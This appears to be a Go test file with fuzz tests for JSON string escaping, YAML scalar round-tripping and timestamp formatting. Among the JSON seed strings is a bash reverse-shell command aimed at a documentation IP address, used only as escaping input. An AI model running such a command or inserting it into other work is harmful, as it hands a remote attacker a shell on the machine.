package sim

import (
	"encoding/json"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"sigs.k8s.io/yaml"
)

// appendStr must write a JSON string that decodes to its input (invalid
// UTF-8 becoming U+FFFD, as encoding/json does), and with html set escape
// exactly what encoding/json escapes.
func FuzzAppendStr(f *testing.F) {
	for _, s := range []string{"", "plain", `quote " and \ backslash`, "a&b<c>d", "tab\tnew\nline\rcr", "\x00\x1f\x7f", "é ü 日本",
		"\u2028\u2029", "\xff\xfe", "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1", "?a=1&b=2"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		for _, html := range []bool{false, true} {
			b := appendStr([]byte("x"), s, html)
			if b[0] != 'x' {
				t.Fatalf("prefix lost")
			}
			var got string
			if err := json.Unmarshal(b[1:], &got); err != nil {
				t.Fatalf("appendStr(%q, %v) = %s: %v", s, html, b[1:], err)
			}
			want := strings.ToValidUTF8(s, "\uFFFD")
			if !utf8.ValidString(s) {
				// encoding/json replaces each invalid byte.
				want = string([]rune(string([]byte(s))))
			}
			if got != want {
				t.Fatalf("appendStr(%q, %v) decodes to %q", s, html, got)
			}
			if html {
				ref, _ := json.Marshal(s)
				if string(ref) != string(b[1:]) {
					t.Fatalf("appendStr(%q, true) = %s, encoding/json writes %s", s, b[1:], ref)
				}
			}
			if bs := appendStr(nil, []byte(s), html); string(bs) != string(b[1:]) {
				t.Fatalf("[]byte and string forms differ for %q", s)
			}
		}
	})
}

// A scalar the YAML writer emits reads back, through sigs.k8s.io/yaml (what
// kubectl and the cluster loader use), as the same string.
func FuzzYAMLScalar(f *testing.F) {
	for _, s := range []string{"", "app", "true", "no", "On", "null", "~", "0", "0755", "1e3", "-", "- x", "a: b", "#c", "2026-11-16T00:00:00Z",
		"*.example.com", "@x", "`x`", "k8s:app=web", "/metrics", "10.0.0.1", "3.20", "'", "\"", "a\nb", "x #y", "y", "Y", ".inf", "0x1F", "1_000"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if !utf8.ValidString(s) {
			return
		}
		y := &yamlWriter{}
		y.key("k", s, 0)
		var got map[string]any
		if err := yaml.Unmarshal(y.b, &got); err != nil {
			t.Fatalf("%q written as %q: %v", s, y.b, err)
		}
		if v, ok := got["k"].(string); !ok || v != s {
			t.Fatalf("%q written as %q reads back as %#v", s, y.b, got["k"])
		}
	})
}

// The hand-written timestamp formats agree with package time.
func FuzzTimeFormats(f *testing.F) {
	for _, ns := range []int64{0, 1, 999_999_999, 1_000_000, 1_794_787_251_360_355_967, 951_782_400_000_000_000, -1, 4_102_444_799_999_999_999} {
		f.Add(ns)
	}
	f.Fuzz(func(t *testing.T, ns int64) {
		if ns < 0 || ns > 253402300799999999 { // years 1970 to 9999 only
			return
		}
		tm := time.Unix(0, ns).UTC()
		var tf timeFmt
		if got, want := string(tf.micro(nil, ns)), `"`+tm.Format("2006-01-02T15:04:05.000000Z")+`"`; got != want {
			t.Fatalf("micro(%d) = %s, want %s", ns, got, want)
		}
		if got, want := string(tf.nano(nil, ns)), `"`+tm.Format("2006-01-02T15:04:05.000000000Z")+`"`; got != want {
			t.Fatalf("nano(%d) = %s, want %s", ns, got, want)
		}
		var back time.Time
		if err := json.Unmarshal(tf.proto(nil, ns), &back); err != nil || !back.Equal(tm) {
			t.Fatalf("proto(%d) = %s reads back as %s, %v", ns, tf.proto(nil, ns), back, err)
		}
	})
}
